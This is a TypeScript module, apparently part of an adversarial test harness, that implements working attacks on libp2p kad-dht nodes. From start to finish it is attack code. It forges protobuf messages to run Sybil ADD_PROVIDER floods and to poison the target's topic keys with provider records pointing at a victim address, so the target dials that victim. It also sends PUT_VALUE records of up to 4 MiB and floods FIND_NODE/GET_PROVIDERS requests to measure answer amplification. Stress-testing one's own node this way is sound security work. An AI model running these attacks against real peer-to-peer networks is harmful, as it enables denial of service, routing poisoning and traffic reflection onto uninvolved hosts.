/**
 * kad-dht (`/mesh/kad/1.0.0` in a private mesh): protobuf messages written by hand so that every field can
 * be forged. ADD_PROVIDER floods, provider records poisoning the target's own topic keys with a victim's
 * address, PUT_VALUE with huge records, FIND_NODE / GET_PROVIDERS floods.
 */
import type { Connection } from '@libp2p/interface'
import { multiaddr } from '@multiformats/multiaddr'
import { CID } from 'multiformats/cid'
import { type AttackContext, ConnectionKeeper, defineAttack, loops } from '../attack.js'
import { type HostileNode, HostilePool } from '../hostile-node.js'
import { longAddr, randomCid } from '../ids.js'
import { closeSoon, lp, noise, pause, pb, send, unpb } from '../wire.js'

export const KAD_TYPE = {
  PUT_VALUE: 0,
  GET_VALUE: 1,
  ADD_PROVIDER: 2,
  GET_PROVIDERS: 3,
  FIND_NODE: 4,
  PING: 5,
} as const

/** The kad-dht protocol the target speaks (from identify), else Meshkit's private one. */
export function kadProtocolOf(ctx: Pick<AttackContext, 'target'>): string {
  return ctx.target.protocols.find((p) => /\/kad\/1\.0\.0$/.test(p)) ?? '/mesh/kad/1.0.0'
}

/** A kad PeerInfo: id (multihash bytes) and addresses. */
export const kadPeer = (id: Uint8Array, addrs: readonly string[]) =>
  pb([[1, id], ...addrs.map((a) => [2, multiaddr(a).bytes] as const), [3, 0]])

/** A kad Message. */
export function kadMessage(m: {
  type: number
  key?: Uint8Array
  record?: Uint8Array
  providers?: Uint8Array[]
  closer?: Uint8Array[]
}): Uint8Array {
  return pb([
    [1, m.type],
    [2, m.key],
    [3, m.record],
    ...(m.closer ?? []).map((p) => [8, p] as const),
    ...(m.providers ?? []).map((p) => [9, p] as const),
  ])
}

const targetConnection = (node: HostileNode, ctx: AttackContext): Connection | undefined =>
  node.libp2p
    .getConnections()
    .find((c) => c.remotePeer.toString() === ctx.target.peerId && c.status === 'open')

/** `count` ADD_PROVIDER messages on one stream, each for a key from `keys()`, naming `addrs`. */
async function addProviders(
  ctx: AttackContext,
  node: HostileNode,
  count: number,
  keys: () => Promise<Uint8Array>,
  addrs: readonly string[],
): Promise<void> {
  const connection = targetConnection(node, ctx) ?? (await node.dial(ctx.target.tcp, ctx.tally, ctx.signal))
  const { stream } = await node.open(connection, kadProtocolOf(ctx), ctx.tally, ctx.signal)
  try {
    const self = kadPeer(node.libp2p.peerId.toMultihash().bytes, addrs)
    for (let i = 0; i < count && !ctx.signal.aborted && stream.writeStatus === 'writable'; i++) {
      await send(
        stream,
        lp(kadMessage({ type: KAD_TYPE.ADD_PROVIDER, key: await keys(), providers: [self] })),
        ctx.tally,
        ctx.signal,
      )
      ctx.tally.inc('provider_records_sent')
    }
  } finally {
    await closeSoon(stream)
  }
}

/** Provider records for random keys, 16 long addresses each, from Sybils: the provider store grows. */
export const kadAddProvider = defineAttack(
  'kad-add-provider',
  'ADD_PROVIDER floods for random keys, 16 long addresses per record, from Sybils',
  async (ctx) => {
    const victim = await ctx.sentinels.open('victim:kad-add-provider')
    const pool = new HostilePool(ctx.sourceIps)
    const addrs = [victim.tcp, ...Array.from({ length: 15 }, () => longAddr(250))]
    try {
      await loops(ctx.scaled(3), ctx.signal, ctx.tally, async () => {
        const node = await pool.spawn()
        try {
          await addProviders(ctx, node, 200, async () => (await randomCid()).multihash.bytes, addrs)
          ctx.tally.inc('sybils')
        } finally {
          await pool.stop(node)
        }
      })
    } finally {
      await pool.stopAll()
    }
  },
)

/**
 * Provider records for the target's own topic keys, naming a victim's address: the target's topic
 * lookups find them and dial the victim (the Sybils are gone by then).
 */
export const kadTopicPoison = defineAttack(
  'kad-topic-poison',
  "provider records for the target's own topic keys at a victim's address",
  async (ctx) => {
    if (ctx.target.topicKeys.length === 0) {
      ctx.tally.note('skipped: the target joined no topic')
      return
    }
    const victim = await ctx.sentinels.open('victim:kad-topic-poison')
    const keys = ctx.target.topicKeys.map((k) => CID.parse(k).multihash.bytes)
    const pool = new HostilePool(ctx.sourceIps)
    let n = 0
    try {
      await loops(2, ctx.signal, ctx.tally, async () => {
        if (ctx.tally.get('sybils') >= ctx.scaled(30)) {
          await pause(200, ctx.signal)
          return
        }
        const node = await pool.spawn()
        try {
          await addProviders(ctx, node, keys.length, async () => keys[n++ % keys.length], [victim.tcp])
          ctx.tally.inc('sybils')
          await pause(200, ctx.signal)
        } finally {
          await pool.stop(node)
        }
      })
      ctx.tally.set('victim_hits', ctx.sentinels.since(0, victim.label).length)
    } finally {
      await pool.stopAll()
    }
  },
)

/**
 * PUT_VALUE with huge records (256 KiB to 4 MiB) under `/pk/` and arbitrary keys: the kad-dht stream reads
 * length-prefixed messages without a size limit of Meshkit's.
 */
export const kadPutValue = defineAttack(
  'kad-put-value',
  'PUT_VALUE with 256 KiB - 4 MiB records under /pk/ and arbitrary keys',
  async (ctx) => {
    const pool = new HostilePool(ctx.sourceIps)
    try {
      await loops(ctx.scaled(2), ctx.signal, ctx.tally, async () => {
        const node = await pool.spawn()
        try {
          const connection = await node.dial(ctx.target.tcp, ctx.tally, ctx.signal)
          for (let i = 0; i < 5 && !ctx.signal.aborted && connection.status === 'open'; i++) {
            const { stream, reader } = await node.open(connection, kadProtocolOf(ctx), ctx.tally, ctx.signal)
            const size = (256 * 1024) << Math.floor(Math.random() * 5)
            const key = Math.random() < 0.5 ? new TextEncoder().encode(`/pk/${'x'.repeat(40)}`) : noise(64)
            const record = pb([
              [1, key],
              [2, noise(size)],
              [5, new Date().toISOString()],
            ])
            try {
              await send(
                stream,
                lp(kadMessage({ type: KAD_TYPE.PUT_VALUE, key, record })),
                ctx.tally,
                ctx.signal,
              )
              ctx.tally.inc('huge_records_sent')
              ctx.tally.max('max_record_bytes', size)
              const answer = await reader.readLp(5000, ctx.signal)
              ctx.tally.inc(answer ? 'put_answered' : `put_${reader.ended ?? 'unanswered'}`)
            } catch (err) {
              ctx.tally.error(err)
            } finally {
              await closeSoon(stream)
            }
          }
        } finally {
          await pool.stop(node)
        }
      })
    } finally {
      await pool.stopAll()
    }
  },
)

/** FIND_NODE and GET_PROVIDERS for random keys, many streams at once: answer bytes per request byte. */
export const kadFindNode = defineAttack(
  'kad-find-node',
  'FIND_NODE / GET_PROVIDERS floods on parallel streams (answer bytes per request byte)',
  async (ctx) => {
    const pool = new HostilePool(ctx.sourceIps)
    try {
      const keeper = new ConnectionKeeper(ctx, pool)
      await loops(ctx.scaled(8), ctx.signal, ctx.tally, async () => {
        const connection = await keeper.get()
        const { stream, reader } = await keeper.node!.open(
          connection,
          kadProtocolOf(ctx),
          ctx.tally,
          ctx.signal,
        )
        try {
          for (let i = 0; i < 20 && !ctx.signal.aborted && stream.writeStatus === 'writable'; i++) {
            const findNode = Math.random() < 0.5
            const key = findNode
              ? noise(32)
              : ctx.target.topicKeys.length > 0 && Math.random() < 0.5
                ? CID.parse(ctx.target.topicKeys[0]).multihash.bytes
                : (await randomCid()).multihash.bytes
            const type = findNode ? KAD_TYPE.FIND_NODE : KAD_TYPE.GET_PROVIDERS
            await send(stream, lp(kadMessage({ type, key })), ctx.tally, ctx.signal)
            const answer = await reader.readLp(3000, ctx.signal)
            if (!answer) break
            const fields = unpb(answer)
            ctx.tally.inc(findNode ? 'find_node_answered' : 'get_providers_answered')
            ctx.tally.max('max_closer_peers', fields.get(8)?.length ?? 0)
            ctx.tally.max('max_providers', fields.get(9)?.length ?? 0)
          }
        } finally {
          await closeSoon(stream)
        }
      })
    } finally {
      await pool.stopAll()
    }
  },
)
